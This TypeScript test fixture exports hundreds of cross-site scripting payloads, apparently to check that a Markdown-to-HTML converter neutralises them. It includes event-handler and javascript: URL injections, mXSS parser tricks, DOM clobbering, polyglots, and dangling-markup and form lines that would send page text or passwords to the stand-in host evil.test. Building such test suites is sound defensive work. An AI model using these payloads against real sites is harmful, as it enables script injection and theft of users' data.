/**
 * Notes that try to run script, to contact another host or to break out of the page that shows them. Each
 * calls `pwned()` or names `evil.test`; the browser that reads the renderings watches for both.
 */
const call = 'pwned()';
const breakOut = `<img src=x onerror=${call}>`;

const handlers = (
  'onload onerror onclick onmouseover onfocus ontoggle onanimationstart ontransitionend onpointerrawupdate ' +
  'onscrollend onbeforetoggle oncontentvisibilityautostatechange ' +
  'onhashchange onpageshow onsecuritypolicyviolation'
).split(' ');
const eventHandlers = handlers.flatMap((handler) => [
  `<b ${handler}=${call} tabindex=1 autofocus>b</b>`,
  `<a href="https://ok.test" ${handler}="${call}">a</a>`,
  `<details open ${handler}='${call}'><summary>s</summary></details>`,
]);

/** What stands between a tag and its attribute, or around a handler's name: parsers have disagreed on it. */
const attributeTricks = [
  `<img/src=x/onerror=${call}>`,
  `<img src=x onerror\n=\n${call}>`,
  `<img src=x\fonerror=${call}>`,
  `<IMG SRC=x OnErRoR=${call}>`,
  `<img src=x onerror=${call}//`,
  `<img src='x' onerror='${call}' x="`,
  `<img src="x\`onerror=${call}\`">`,
  `<img src=x:x onerror=&#112;wned()>`,
  `<img """><img src=x onerror=${call}>">`,
  `<b"onmouseover="${call}">x</b>`,
  `<b a=">" onmouseover=${call} b="<">x</b>`,
  `<b title="&quot; onmouseover=${call} &quot;">x</b>`,
  `<p title="</p><img src=x onerror=${call}>">x</p>`,
  `<b =onmouseover=${call}>x</b>`,
];

const urls = [
  `javascript:${call}`,
  `JaVaScRiPt:${call}`,
  `javascript&colon;${call}`,
  `javascript&#0000058${call}`,
  `java&Tab;script:${call}`,
  `java&NewLine;script:${call}`,
  `java\tscript:${call}`,
  `&#1;javascript:${call}`,
  `&#x6a;avascript:${call}`,
  `javascript://https://ok.test/%0a${call}`,
  `vbscript:${call}`,
  `data:text/html,<script>parent.${call}</script>`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${call}'/>`,
  `blob:https://ok.test/1`,
  `file:///etc/passwd`,
  `view-source:javascript:${call}`,
  `//evil.test/x`,
  `/\\evil.test/x`,
  `intent://evil.test#Intent;scheme=https;end`,
].flatMap((url) => [
  `<a href="${url}">x</a>`,
  `[x](${url})`,
  `[x](<${url}>)`,
  `[x][r]\n\n[r]: ${url}`,
  `![x](${url})`,
  `<${url}>`,
]);

const urlAttributes = [
  ['form', 'action'],
  ['button form=f', 'formaction'],
  ['iframe', 'src'],
  ['embed', 'src'],
  ['object', 'data'],
  ['area', 'href'],
  ['base', 'href'],
  ['link rel=stylesheet', 'href'],
  ['table', 'background'],
  ['a', 'ping'],
  ['a', 'xlink:href'],
  ['blockquote', 'cite'],
  ['video', 'poster'],
  ['img', 'srcset'],
  ['script', 'src'],
  ['image', 'src'],
  ['input type=image', 'src'],
].flatMap(([element, attribute]) => [
  `<${element} ${attribute}="javascript:${call}">x`,
  `<${element} ${attribute}="https://evil.test/${attribute}">x`,
]);

/** Script, frames, fields and pages within the page. */
const elements = [
  `<ScRiPt\n>${call}</sCrIpT\n>`,
  `<<script>${call}//<</script>`,
  `<scr<script>ipt>${call}</scr</script>ipt>`,
  `<script type=module>import 'https://evil.test/x.js'</script>`,
  `<script type=speculationrules>{"prefetch":[{"source":"list","urls":["https://evil.test/"]}]}</script>`,
  `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  `<object data="data:text/html,<script>parent.${call}</script>"></object>`,
  `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
  `<meta http-equiv=Content-Security-Policy content="report-uri https://evil.test">`,
  `<base href="https://evil.test/" target="_blank"><a href="x">x</a>`,
  `<link rel=dns-prefetch href=//evil.test><link rel=preconnect href=//evil.test>`,
  `<form action=//evil.test><input name=password autofocus onfocus=${call}><button>x</button></form>`,
  `<input type=checkbox onfocus=${call} autofocus onchange=${call}>`,
  `<textarea autofocus onfocus=${call}></textarea>`,
  `<video autoplay onloadstart=${call} src=x><source onerror=${call}></video>`,
  `<picture><source srcset=//evil.test/x><img src=//evil.test/y onerror=${call}></picture>`,
  `<div popover id=p onbeforetoggle=${call}></div><button popovertarget=p>x</button>`,
  `<x is="y" onclick=${call}>z</x><x-y onclick=${call}>z</x-y><b is="x-y" onclick=${call}>x</b>`,
  `<frameset onload=${call}><frame src="javascript:${call}"></frameset>`,
  `<body onload=${call} onpageshow=${call}>x`,
  `<slot onslotchange=${call}></slot><template shadowrootmode=open><img src=x onerror=${call}></template>`,
  `<a href=https://ok.test target=_blank rel=opener download=x>x</a>`,
];

/** Text that one parser takes for text and the next one for markup (mXSS). */
const mutations = [
  ...'style title textarea xmp noscript noembed iframe plaintext template select'
    .split(' ')
    .flatMap((name) => [
      `<${name}><p title="</${name}>${breakOut}">x</p></${name}>`,
      `<svg><${name}><p title="</${name}>${breakOut}">`,
      `<math><mtext><table><mglyph><${name}><!--</${name}>${breakOut}-->`,
      `<math><annotation-xml encoding="text/html"><${name}><b title="</${name}>${breakOut}">`,
      `<form><math><mtext></form><form><mglyph><${name}></math>${breakOut}`,
      `<table><tr><${name}>${breakOut}</${name}></tr></table>`,
    ]),
  ...[255, 256, 511, 512, 513].flatMap((depth) => [
    `${'<div>'.repeat(depth)}<svg><style><a title="</style>${breakOut}">`,
    `${'<r>'.repeat(depth)}<form><math><mtext></form><form><mglyph><style><path id="</style>${breakOut}">`,
    `${'<b>'.repeat(depth)}<table><tr><td><caption><svg><title><template><style>${breakOut}`,
  ]),
  `<svg></p><style><a id="</style>${breakOut}">`,
  `<svg><desc><b title="</desc></svg>${breakOut}">`,
  `<svg><annotation-xml><foreignobject><style><!--</style><p id="--><!--</annotation-xml>${breakOut}">`,
  `<svg><title><style><a id="</style>${breakOut}"></style></title></svg>`,
  `<b><form><table><form><b></table></form>${breakOut}</b>`,
  `<a><table><a title="</table>${breakOut}"></table></a>`,
  `<template><s><template><s>${breakOut}</s></template></s></template>`,
  `<!--><img src=x onerror=${call}>-->`,
  `<!-- --!><img src=x onerror=${call}> -->`,
  `<!--<img src="--><img src=x onerror=${call}>">-->`,
  `<svg></svg><![CDATA[><a title="]]>${breakOut}">`,
  `<?><img src=x onerror=${call}>?>`,
  `<!DOCTYPE x [<!ENTITY e "${breakOut}">]>&e;`,
  `</body></html><script>${call}</script>`,
  `<b title="&lt;/b&gt;${breakOut}">x</b>`,
];

const foreign = [
  `<svg/onload=${call}//`,
  `<svg><script href="data:,${call}"/></svg>`,
  `<svg><a xlink:href="javascript:${call}"><circle r=9></a></svg>`,
  `<svg><a><animate attributeName=href values="javascript:${call}"/><text>x</text></a></svg>`,
  `<svg><set attributeName=onmouseover to=${call}></svg>`,
  `<svg><image href=//evil.test/x.svg><feImage href=//evil.test/x.svg></svg>`,
  `<svg><style>@import "//evil.test/x.css"</style></svg>`,
  `<math href="javascript:${call}">x</math>`,
  `<math><maction actiontype="statusline#//evil.test" xlink:href="javascript:${call}">x</maction></math>`,
];

const styles = [
  `background:url(//evil.test/x)`,
  `animation:x 1s`,
  `position:fixed;inset:0;opacity:0`,
  `text-align:left;background:url(//evil.test/x)`,
].flatMap((style) => [
  `<b style="${style}">x</b>`,
  `<table><tr><td style="${style}">x</td></tr></table>`,
  `<style>b{${style}}</style><b>x</b>`,
]);

const clobbering = [
  `<a id=document href=https://ok.test>x</a><a id=document name=cookie href=https://ok.test>x</a>`,
  `<form id=pwned><input name=attributes><input name=parentNode></form>`,
  `<form><input name=ownerDocument><input name=nodeName><input name=childNodes></form>`,
  `<ol id=__proto__ start=1><li id=constructor>x</ol>`,
];

const dangling = [
  `<img src='//evil.test/?`,
  `<a href='https://evil.test/?\n\nsecret`,
  `<form action=//evil.test><textarea name=x>`,
  `<style>@import '//evil.test/?`,
];

/** What a converter could be made to write by Markdown alone. */
const markdownInjections = [
  `[x](https://ok.test"onmouseover="${call})`,
  `[x](https://ok.test 't"onmouseover="${call}')`,
  `[x"onmouseover="${call}](https://ok.test)`,
  `[<img src=x onerror=${call}>](https://ok.test)`,
  `[x](\u0001javascript:${call})`,
  `![x"onerror="${call}](x)`,
  `![x](x =1x1"onerror="${call})`,
  `![](https://evil.test/pixel.png)`,
  `![x][i]\n\n[i]: https://evil.test/pixel.png "t"onerror="${call}"`,
  `[![x](https://evil.test/pixel.png)](javascript:${call})`,
  `<https://ok.test/"onmouseover="${call}>`,
  `<mailto:x@ok.test"onmouseover="${call}">`,
  `www.ok.test"onmouseover=${call}`,
  `\`\`\`js"onmouseover="${call}\nx\n\`\`\``,
  `\`\`\`\n</code></pre><img src=x onerror=${call}>\n\`\`\``,
  `\`</code><img src=x onerror=${call}>\``,
  `\\\\<img src=x onerror=${call}>`,
  `&#60;img src=x onerror=${call}&#62;`,
  `<p>&amp;lt;img src=x onerror=${call}&amp;gt;</p>`,
  `*<b title="*onmouseover=${call} x="_">_*</b>_`,
  `<b title="[x](y" onmouseover="${call})">x</b>`,
  `<b title="https://ok.test onmouseover=${call} ">x</b>`,
  `| a | b |\n|:--" onclick="${call}|---|\n| <img src=x onerror=${call}> | 2 |`,
  `# <img src=x onerror=${call}> {#x onclick=${call}}`,
  `- [x]<img src=x onerror=${call}>\n- [ ]"onclick=${call}`,
  `> <script>\n> ${call}\n> </script>`,
  `<div markdown onclick=${call}>**[x](javascript:${call})**</div>`,
  `¨K0K ¨C0C ¨G0G ¨E60Eimg src=x onerror=${call}¨E62E`,
  `$&<img src=x onerror=${call}>$1`,
  `<scr\n\nipt>${call}</scr\n\nipt>`,
  `{{constructor.constructor("${call}")()}} <%= ${call} %> #{${call}}`,
];

const polyglots = [
  'javascript:/*--></title></style></textarea></script></xmp>' +
    `<svg/onload='+/"/+/onmouseover=1/+/[*/[]/+${call}//'>`,
  `"'><img src=x onerror=${call}><!--<svg onload=${call}>-->\`]](javascript:${call})`,
  `\`\`\`\n"'--></style></script><svg onload=${call}>\n\`\`\`` +
    `[x](javascript:${call}) <a href=javascript:${call}>`,
];

/** The converter treats the same payload differently in each of these places. */
const places: readonly ((payload: string) => string)[] = [
  (payload) => payload,
  (payload) => `Some *text* ${payload} and **more**.`,
  (payload) => `- item\n- ${payload}\n`,
  (payload) => `<p>${payload}`,
];

const anywhere = [...attributeTricks, ...elements, ...foreign, ...clobbering, ...dangling, ...polyglots];

export const xssPayloads: readonly string[] = [
  ...eventHandlers,
  ...urls,
  ...urlAttributes,
  ...mutations,
  ...styles,
  ...markdownInjections,
  ...places.flatMap((place) => anywhere.map(place)),
];
